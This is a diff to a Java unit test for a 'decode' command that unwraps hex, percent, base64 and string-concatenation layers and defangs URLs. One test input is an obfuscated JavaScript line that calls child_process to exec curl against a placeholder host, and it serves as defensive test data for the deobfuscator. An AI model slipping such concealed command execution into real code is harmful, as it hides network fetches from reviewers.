@@ -139,7 +139,7 @@ final class OtherCommandsTest {
                 "68656c6c6f20776f726c64 | hex  hello world",
                 "hello%20w%C3%B6rld | percent  hello wörld",
                 "aHR0cHM6Ly9hLmV4YW1wbGU= | base64  hxxps://a[.]example",
-                "global['re'+'quire']('child_'+'process').exec('cu'+'rl a.example') | concatenation  curl a.example",
+                "global['re'+'quire']('child_'+'process').exec('cu'+'rl https://a.example/x') | concatenation  curl hxxps://a[.]example/x",
             })
     void decodeShowsTheLayersOfAText(String text, String line) {
         CommandRun run = run(Reports.with(), "decode", text);
